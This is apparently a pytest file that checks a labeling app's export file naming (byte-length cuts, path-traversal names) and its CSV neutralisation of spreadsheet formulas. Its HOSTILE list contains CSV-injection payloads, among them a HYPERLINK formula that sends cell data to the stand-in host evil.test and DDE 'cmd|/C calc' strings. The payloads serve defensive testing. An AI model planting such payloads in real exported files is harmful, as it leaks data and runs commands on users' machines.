"""Exports that any project name can name and that no spreadsheet runs: file names cut by bytes, CSV cells
neutralised against formulas."""
from __future__ import annotations

import csv
import io
from urllib.parse import quote

import pytest

from apps.exports.models import Export
from apps.exports.writers import EXTENSIONS, MAX_STEM_BYTES, csv_cell, export_filename
from tests.apps.exports.test_exports import _annotated_project, _export, _wav

LONG_NAMES = [
    "数据集" * 66 + "数",  # 199 characters, 597 bytes of UTF-8: 'File name too long' before
    "a" * 200,  # 200 ASCII characters: overflowed Export.filename before
    "𠀀" * 200,  # 4-byte characters (CJK extension B): a cut must not split one
    "a" + "数" * 199,  # the cut falls inside a 3-byte character
    "é" * 150 + "x" * 50,
]


@pytest.mark.parametrize("name", LONG_NAMES + ["digits", "", "../../etc/passwd", "a b/c\\d:e*f?g\"h<i>j|k", "..."])
@pytest.mark.parametrize("fmt", sorted(EXTENSIONS))
def test_export_filenames_fit_by_bytes_and_keep_format_id_and_extension(name, fmt):
    filename = export_filename(project_name=name, format=fmt, export_id=123456789)
    stem, ext = filename.rsplit(".", 1)
    assert ext == EXTENSIONS[fmt] and stem.endswith(f"-{fmt}-export123456789")
    assert len(stem.encode("utf-8")) <= MAX_STEM_BYTES
    assert len(filename) <= Export._meta.get_field("filename").max_length
    assert filename.encode("utf-8").decode("utf-8") == filename  # whole characters only
    assert "/" not in filename and "\\" not in filename and not filename.startswith(".")
    prefix = stem[: -len(f"-{fmt}-export123456789")]
    assert prefix and set(prefix) <= set(name.replace(" ", "_") + "_") | set("project")


def test_the_cut_keeps_as_much_of_the_name_as_fits():
    tail = "-csv-export7"
    room = MAX_STEM_BYTES - len(tail)  # 108 bytes for the name
    stem = export_filename(project_name="𠀀" * 200, format="csv", export_id=7)[: -len(".csv")]
    assert stem == "𠀀" * (room // 4) + tail  # 4-byte characters, cut at the last whole one
    stem = export_filename(project_name="a" + "数" * 199, format="csv", export_id=7)[: -len(".csv")]
    assert stem == "a" + "数" * ((room - 1) // 3) + tail  # 1 + 35 * 3 = 106 bytes: the 36th would split
    assert export_filename(project_name="🙂 party", format="csv", export_id=7) == "party-csv-export7.csv"
    assert export_filename(project_name="digits", format="csv", export_id=7) == "digits-csv-export7.csv"


@pytest.mark.parametrize("name", LONG_NAMES[:2])
def test_a_project_with_a_long_name_exports_and_downloads(api, lead, digits, django_capture_on_commit_callbacks, name):
    from apps.labeling.services import round_create
    from apps.projects.services import project_create
    from tests.apps.helpers import label_all_open, push_digits, truth_by_sample

    project = project_create(user=lead, name=name, modality="image", labels=[str(i) for i in range(10)])
    push_digits(project, digits, 4)
    with django_capture_on_commit_callbacks(execute=True):
        round_create(project=project, user=lead, budget=4, strategy="random")
    assert label_all_open(project, lead, truth_by_sample(project, digits)) == 4
    body, data = _export(api, lead, project, "csv", django_capture_on_commit_callbacks)
    assert body["filename"] == export_filename(project_name=name, format="csv", export_id=body["id"])
    assert len(list(csv.DictReader(io.StringIO(data.decode())))) == 4
    disposition = api(lead).get(body["download_url"])["Content-Disposition"]
    assert f'filename="{body["filename"]}"' in disposition or f"filename*=utf-8''{quote(body['filename'])}" in disposition


HOSTILE = ["=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")", "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(value):
    assert csv_cell(value) == "'" + value
    assert csv_cell("plain") == "plain" and csv_cell("a=b") == "a=b" and csv_cell("") == ""
    assert csv_cell(-1) == -1 and csv_cell(-0.5) == -0.5  # numbers stay numbers


def _read(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode())))


def test_classification_csv_neutralises_external_ids_and_labels(api, lead, digits, django_capture_on_commit_callbacks):
    from apps.labeling.services import annotation_submit, round_create, task_lease_next
    from apps.projects.services import project_create
    from apps.samples.services import IngestItem, samples_ingest

    labels = ["=1+1", "-5", "@cat", "dog"]
    project = project_create(user=lead, name="formulas", modality="image", labels=labels)
    samples_ingest(project=project, items=[IngestItem(external_id=ext, content=png) for ext, (png, _) in
                                           zip(HOSTILE[:4], digits[:4])])
    with django_capture_on_commit_callbacks(execute=True):
        round_create(project=project, user=lead, budget=4, strategy="random")
    label_of = dict(zip(HOSTILE[:4], labels))
    while (task := task_lease_next(project=project, user=lead)) is not None:
        annotation_submit(task=task, user=lead, result={"label": label_of[task.sample.external_id]})
    _, data = _export(api, lead, project, "csv", django_capture_on_commit_callbacks)
    rows = _read(data)
    assert sorted(r["external_id"] for r in rows) == sorted("'" + e for e in HOSTILE[:4])
    for row in rows:
        assert row["label"] == csv_cell(label_of[row["external_id"][1:]])
        assert int(row["label_index"]) == labels.index(label_of[row["external_id"][1:]])  # numbers untouched
        assert int(row["sample_id"]) > 0
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())


def test_regions_csv_neutralises_transcripts_and_keeps_times_as_numbers(api, lead, django_capture_on_commit_callbacks):
    results = [{"label": "-speech", "regions": [{"label": "=speech", "start": 0.1, "end": 0.6, "text": HOSTILE[0]},
                                                {"label": "@noise", "start": 1.0, "end": 1.5, "text": "+1+2"}]},
               {"regions": [{"label": "=speech", "start": 0.0, "end": 1.9, "text": "-2+3"}]}]
    project, anns = _annotated_project(lead, modality="audio", task_type="audio_regions",
                                       labels=["=speech", "@noise", "-speech"], contents=[_wav(2.0), _wav(2.5)],
                                       results=results, capture=django_capture_on_commit_callbacks,
                                       external_ids=["=cmd|'/C calc'!A0", "@ext"])
    _, data = _export(api, lead, project, "regions_csv", django_capture_on_commit_callbacks)
    rows = _read(data)
    first = [r for r in rows if int(r["sample_id"]) == anns[0].sample.pk]
    assert [(r["label"], r["text"], r["start"], r["end"]) for r in first] == [
        ("'=speech", "'" + HOSTILE[0], "0.100000", "0.600000"), ("'@noise", "'+1+2", "1.000000", "1.500000")]
    assert first[0]["clip_label"] == "'-speech" and first[0]["external_id"] == "'=cmd|'/C calc'!A0"
    second = [r for r in rows if int(r["sample_id"]) == anns[1].sample.pk]
    assert second[0]["text"] == "'-2+3" and second[0]["external_id"] == "'@ext"
